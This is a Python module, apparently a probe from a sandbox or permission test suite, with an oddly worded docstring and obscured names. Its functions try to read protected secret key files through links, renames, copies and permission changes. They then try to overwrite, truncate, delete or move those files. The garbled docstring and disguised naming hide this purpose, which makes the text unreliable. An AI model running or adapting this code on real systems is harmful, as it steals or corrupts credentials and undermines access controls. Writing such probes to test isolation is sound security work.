"""Gives the key of the seeds other names, other rights and other content, so as to know it.

Earns: 2
Class: 5 8 18
Repeat: without root
"""

import os
import shutil
from pathlib import Path

from shapes.tools import MARK, SEED_KEYS, answer, is_seed_key, works

KNOWN = "ab" * 32


def ways(place, own):
    yield lambda: os.link(place, own)
    yield lambda: os.symlink(place, own)
    yield lambda: os.rename(place, own)
    yield lambda: shutil.copyfile(place, own)
    yield lambda: os.copy_file_range(os.open(place, os.O_RDONLY), os.open(own, os.O_RDWR), 64)
    yield lambda: os.chmod(place, 0o644)
    yield lambda: os.chown(place, os.getuid(), os.getgid())


def changes(place, own):
    with open(own, "w") as file:
        file.write(KNOWN)
    yield lambda: os.replace(own, place)
    yield lambda: os.truncate(place, 0)
    yield lambda: os.unlink(place)
    yield lambda: Path(place).write_text(KNOWN)
    yield lambda: os.rename(os.path.dirname(place), f"{os.path.dirname(place)}-{MARK}")


def know():
    for number, place in enumerate(SEED_KEYS):
        own = f"{MARK}-{number}"
        for way in ways(place, own):
            works(way)
            for name in (own, place):
                found = []
                works(lambda name=name, found=found: found.append(Path(name).read_bytes()))
                if any(map(is_seed_key, found)):
                    return
        if os.path.isdir(os.path.dirname(place)):
            for change in changes(place, f"{MARK}-own-{number}"):
                if works(change):
                    return
    raise PermissionError


def square(x):
    return answer(x, know)
